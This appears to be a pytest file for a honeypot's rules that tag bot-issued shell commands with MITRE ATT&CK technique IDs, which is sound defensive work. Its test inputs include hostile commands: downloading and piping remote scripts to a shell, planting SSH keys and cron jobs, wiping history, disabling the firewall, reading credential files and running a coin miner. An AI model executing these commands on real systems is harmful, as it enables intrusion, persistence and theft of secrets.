"""ATT&CK tagging rules (analysis/attack.py) on commands bots run, and the docs table."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from sandtrap.analysis.attack import RULES, TECHNIQUES, tag


def ids(record: dict[str, object], failures: int = 0) -> list[str]:
    return sorted(t.technique.id for t in tag(record, failures))


def command(text: str) -> dict[str, object]:
    return {"eventid": "session.command", "input": text}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "cd /tmp; wget -q http://1.2.3.4/x.sh; chmod +x x.sh; sh x.sh",
            ["T1059.004", "T1105", "T1222.002"],
        ),
        ("curl -s http://1.2.3.4/i | bash", ["T1059.004", "T1105"]),
        ("echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys", ["T1098.004"]),
        ("(crontab -l; echo '@reboot /tmp/x') | crontab -", ["T1053.003"]),
        ("uname -a", ["T1082"]),
        ("cat /proc/cpuinfo | grep name | wc -l", ["T1082"]),
        ("whoami", ["T1033"]),
        ("cat /etc/passwd", ["T1087.001"]),
        ("ifconfig; netstat -plnt", ["T1016", "T1049"]),
        ("ps aux | grep -v grep", ["T1057"]),
        ("history -c; rm -rf ~/.bash_history", ["T1070.003"]),
        ('echo "ZWNobyBoaQ==" | base64 -d | sh', ["T1059.004", "T1140"]),
        ("systemctl stop firewalld; setenforce 0", ["T1562.001"]),
        ("useradd -m backup; echo 'backup:x' | chpasswd", ["T1098", "T1136.001"]),
        ("cat ~/.aws/credentials .env", ["T1552.001"]),
        ("cat ~/.ssh/id_rsa", ["T1552.004"]),
        ("./xmrig -o stratum+tcp://pool:3333", ["T1496"]),
        ("echo hello", []),
        # Words inside other words or arguments are not commands.
        ("echo identity; cat pswd.txt; mkdir topsecret", []),
    ],
)
def test_command_rules(text: str, expected: list[str]) -> None:
    assert ids(command(text)) == expected


def test_exec_diff_triage_and_auth_events() -> None:
    assert ids({"eventid": "session.exec", "input": "wget http://x/y"}) == ["T1105"]
    diff = {
        "eventid": "sandbox.diff",
        "changes": [
            {"path": "/root/.ssh/authorized_keys", "kind": "modified"},
            {"path": "/var/spool/cron/crontabs/root", "kind": "added"},
            {"path": "/etc/cron.d/x", "kind": "deleted"},
        ],
    }
    assert ids(diff) == ["T1053.003", "T1098.004"]
    assert ids({"eventid": "artifact.analysed", "yara": ["SandTrap_Coin_Miner"]}) == ["T1496"]
    success = {"eventid": "auth.success", "method": "password"}
    assert ids(success, failures=3) == ["T1110.001"]
    assert ids(success, failures=0) == []
    (found,) = tag(command("x; wget http://a/b"))
    assert (found.evidence, found.source) == ("x; wget http://a/b", "session.command")
    assert len(tag(command("wget " + "a" * 5000))[0].evidence) == 256


def test_docs_table_lists_every_technique() -> None:
    docs = (Path(__file__).resolve().parents[2] / "docs" / "analysis.md").read_text()
    rows = dict(re.findall(r"^\| `(T\d{4}(?:\.\d{3})?)` \| ([^|]+) \|", docs, flags=re.MULTILINE))
    assert set(rows) == set(TECHNIQUES)
    for technique in TECHNIQUES.values():
        assert rows[technique.id].strip() == technique.name
    assert {rule.on for rule in RULES} == {"command", "path", "yara", "auth"}
